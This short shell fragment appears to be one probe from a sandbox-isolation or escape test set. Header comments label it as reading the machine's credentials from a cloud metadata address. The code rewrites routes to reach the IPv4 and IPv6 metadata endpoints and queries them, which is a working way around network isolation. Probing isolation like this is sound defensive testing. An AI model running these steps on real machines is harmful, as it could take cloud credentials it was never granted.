# Category: addresses outside (metadata, internet, DNS)
# Escape: reads the machine's credentials from a cloud's metadata address.
# Sign: secret
ip route add 169.254.169.254/32 via "$OWN_GATEWAY" 2>/dev/null
for way in "via $OWN_GATEWAY" "dev eth0"; do
  ip route replace 169.254.169.254/32 $way 2>/dev/null
  ask 169.254.169.254 80
done
ip route del 169.254.169.254/32 2>/dev/null
ip -6 route add fd00:ec2::254/128 via "$(ip -6 neigh | awk '/^fe80/ {print $1; exit}')" dev eth0 2>/dev/null
ask fd00:ec2::254 80
